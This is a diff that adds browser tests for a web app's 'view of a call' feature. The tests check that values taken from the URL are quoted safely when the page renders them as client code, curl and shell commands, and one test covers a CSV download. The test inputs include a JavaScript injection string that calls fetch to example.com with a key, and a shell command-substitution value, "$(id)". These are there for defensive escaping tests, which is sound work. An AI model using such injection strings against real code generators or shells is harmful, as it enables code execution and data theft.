@@ -195,6 +195,38 @@ describe.skipIf(!hasChromium)(
       });
     });
 
+    describe('the view of a call', () => {
+      it('writes what its address says into the program as text, unless it is a number or a truth', async () => {
+        const foreign = '1 }); await fetch("//example.com?" + key';
+        const query = new URLSearchParams({
+          ...{ route: 'funding-current', 'p.limit': foreign, 'p.offset': '20' },
+          ...{ 'p.settled_means': 'true', 'p.include_uncomparable': 'key', 'p.symbol': "BTC' '$(id)" },
+        });
+        const { page } = await visits.open(`${servers.public}/#/buy?${query}`);
+        await page.getByText("The same with this service's client").click();
+        const said = (label: string) =>
+          page.getByRole('region', { name: label }).locator('pre').textContent();
+        const program = (await said("The call with this service's client")) ?? '';
+        expect(program).toContain(`limit: ${JSON.stringify(foreign)}`);
+        expect(program).toContain('offset: 20');
+        expect(program).toContain('settled_means: true');
+        expect(program).toContain('include_uncomparable: "key"');
+        // Nothing of an address ends the quotes that it stands in.
+        for (const label of ['The call as curl', 'The call as a command'])
+          expect((await said(label))?.split("'"), label).toHaveLength(label.endsWith('curl') ? 3 : 5);
+        expect(await said('The call as TypeScript')).toMatch(/await pay\("[^"\\]*"\);$/);
+      });
+
+      it('has a file where the format of a free answer is one', async () => {
+        const { page } = await visits.open(`${servers.public}/#/buy?route=data-quality-units&p.format=csv`);
+        await page.getByRole('button', { name: 'Ask', exact: true }).click();
+        const file = await (await fetch(`${servers.public}/v1/data-quality/units?format=csv`)).text();
+        await page.getByRole('button', { name: /^Save .*\.csv$/ }).waitFor();
+        const shown = await page.getByRole('region', { name: 'The file' }).locator('pre').textContent();
+        expect(shown?.split('\n')[0]).toBe(file.split('\n')[0]);
+      });
+    });
+
     it('has no serious finding in the dark and in a narrow window', async () => {
       const { operator } = servers;
       await expectSoundInTheDark(visits, [operator, `${operator}/#/matrix`, `${operator}/#/nothing`]);
